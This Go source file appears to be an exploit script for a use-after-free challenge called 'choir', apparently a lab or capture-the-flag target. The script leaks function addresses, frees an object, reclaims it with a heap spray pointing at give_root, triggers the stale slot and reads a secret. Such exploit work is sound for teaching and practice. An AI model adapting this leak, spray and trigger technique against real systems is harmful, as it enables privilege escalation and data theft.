package main

import (
	"flag"
	"fmt"
	"log"
	"os"

	"gitlab.com/stephen-fox/uafkit/choir"
	"gitlab.com/stephen-fox/uafkit/iokit"
	"gitlab.com/stephen-fox/uafkit/memory"
	"gitlab.com/stephen-fox/uafkit/scripting"
)

func main() {
	var slot uint
	var sprayCount uint

	proc, args := scripting.ParseExploitArgs(scripting.ParseExploitArgsConfig{
		OptDescription: "Exploits the choir use-after-free: free an object, reclaim its\n" +
			"  chunk with a spray naming give_root, trigger the stale slot, and\n" +
			"  read the secret.",
		OptModMainFlagSet: func(flagSet *flag.FlagSet) {
			flagSet.UintVar(&slot, "slot", 0, "The slot index to use")
			flagSet.UintVar(&sprayCount, "count", 64, "The number of spray chunks")
		},
	})
	defer proc.Close()

	client := choir.NewClient(proc)
	stages := args.Stages
	pm := memory.PointerMakerForX86_64()

	stages.Next("leak procedure addresses")

	leak, err := client.Leak()
	if err != nil {
		log.Fatalln("fatal: leak failed -", err)
	}

	args.Verbose.Printf("give_root: 0x%x, choir_sing: 0x%x", leak.GiveRoot, leak.ChoirSing)

	stages.Next(fmt.Sprintf("create and free slot %d", slot))

	err = client.Create(uint32(slot))
	if err != nil {
		log.Fatalln("fatal: create failed -", err)
	}

	err = client.Free(uint32(slot))
	if err != nil {
		log.Fatalln("fatal: free failed -", err)
	}

	stages.Next(fmt.Sprintf("spray %d chunks to reclaim the object", sprayCount))

	fill := iokit.NewPayloadBuilder().
		Pointer(pm.FromUint(leak.GiveRoot)).
		PadTo(choir.ObjectSize, 0).
		Build()

	args.Verbose.Printf("spray chunk:\n%s", iokit.HexDump(fill))

	err = client.Spray(uint32(sprayCount), fill)
	if err != nil {
		log.Fatalln("fatal: spray failed -", err)
	}

	stages.Next("trigger the stale slot")

	err = client.Trigger(uint32(slot))
	if err != nil {
		log.Fatalln("fatal: trigger failed -", err)
	}

	stages.Next("read the secret")

	secret, err := client.ReadSecret()
	if err != nil {
		log.Fatalln("fatal: read secret failed -", err)
	}

	os.Stdout.Write(secret)
	if len(secret) > 0 && secret[len(secret)-1] != '\n' {
		os.Stdout.WriteString("\n")
	}
}
